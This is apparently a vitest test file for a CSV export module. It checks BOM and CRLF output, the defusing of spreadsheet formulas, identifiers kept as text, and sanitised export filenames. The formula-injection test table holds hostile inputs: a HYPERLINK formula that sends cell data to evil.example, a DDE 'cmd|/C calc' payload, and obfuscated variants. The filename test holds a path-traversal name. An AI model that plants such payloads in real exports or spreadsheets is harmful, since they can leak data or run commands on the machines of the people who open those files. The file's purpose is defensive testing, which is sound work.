/**
 * The one CSV writer, read back by a real CSV parser (papaparse): hostile names stay text, codes
 * and phone numbers come back character for character, Chinese survives Excel's code-page guess.
 */
import { parse } from 'papaparse';
import { describe, expect, it } from 'vitest';
import { BOM, defuseFormula, exportFilename, keepAsText, writeCsv, type CsvColumn } from './csv';

interface Row {
  name: string;
  code: string;
  phone: string | null;
}
const columns: CsvColumn<Row>[] = [
  { header: '姓名', value: (r) => r.name },
  { header: '序號', kind: 'identifier', value: (r) => r.code },
  { header: '電話', kind: 'identifier', value: (r) => r.phone },
];
const read = (csv: string) =>
  parse<string[]>(csv.slice(BOM.length), { newline: '\r\n', skipEmptyLines: true }).data;

describe('the CSV writer of every export', () => {
  it('starts with a BOM and ends lines with CRLF', () => {
    const csv = writeCsv(columns, [{ name: '王小明', code: 'TRY-VALID', phone: null }]);
    expect(csv.startsWith(BOM)).toBe(true);
    expect(csv).toBe(`${BOM}姓名,序號,電話\r\n王小明,TRY-VALID,\r\n`);
  });

  it.each([
    ['=HYPERLINK("http://evil.example/?x="&A1,"點我")'],
    ['=1+1'],
    ['+886 912 345 678'],
    ['-2+3'],
    ['@SUM(A1:A2)'],
    ['  =cmd|"/C calc"!A0'],
    ['\t=1+1'],
    ['\r=1+1'],
    ['＝1+1'],
    ['＋1'],
  ])('keeps the hostile name %j as text (a leading apostrophe, nothing runs)', (name) => {
    const [, row] = read(writeCsv(columns, [{ name, code: 'X', phone: null }]));
    expect(row![0]).toBe(`'${name}`);
  });

  it('leaves ordinary names, also with = or + inside, as they are', () => {
    for (const name of ['Chan Tai Man 陳大文', 'A=B', 'Gigi+1', "O'Brien", '"quoted", with comma'])
      expect(read(writeCsv(columns, [{ name, code: 'X', phone: null }]))[1]![0]).toBe(name);
  });

  it('keeps EAN-13 codes and phone numbers as text for Excel, character for character', () => {
    const rows: Row[] = [
      { name: 'a', code: '2000000000015', phone: '+886 912 345 678' },
      { name: 'b', code: '0012345678905', phone: '+852 9123 4567' },
      { name: 'c', code: 'TRY-VALID', phone: '0912-345-678' },
      { name: 'd', code: '=HYPERLINK("x")', phone: '1E5' },
    ];
    const parsed = read(writeCsv(columns, rows)).slice(1);
    expect(parsed.map((r) => [r[1], r[2]])).toEqual([
      ['="2000000000015"', '="+886 912 345 678"'],
      ['="0012345678905"', '="+852 9123 4567"'],
      ['TRY-VALID', '="0912-345-678"'],
      ['="=HYPERLINK(""x"")"', '="1E5"'],
    ]);
  });

  it('keepAsText and defuseFormula are the two rules, and nothing else changes a cell', () => {
    expect(keepAsText('')).toBe('');
    expect(keepAsText('ABC123')).toBe('ABC123');
    expect(defuseFormula('')).toBe('');
    expect(defuseFormula('陳大文')).toBe('陳大文');
  });

  it('names every export file one way: parts and the brand-local date', () => {
    // 2026-03-09 17:30 UTC is already 2026-03-10 in Taipei.
    const now = new Date('2026-03-09T17:30:00Z');
    expect(exportFilename(['redemptions', 'TPE'], now, 'Asia/Taipei')).toBe('redemptions-TPE-2026-03-10.csv');
    expect(exportFilename(['customers', 'mine'], now, 'Asia/Taipei')).toBe('customers-mine-2026-03-10.csv');
    expect(exportFilename(['redemptions', '台北/../x'], now, 'UTC')).toBe('redemptions-x-2026-03-09.csv');
  });
});
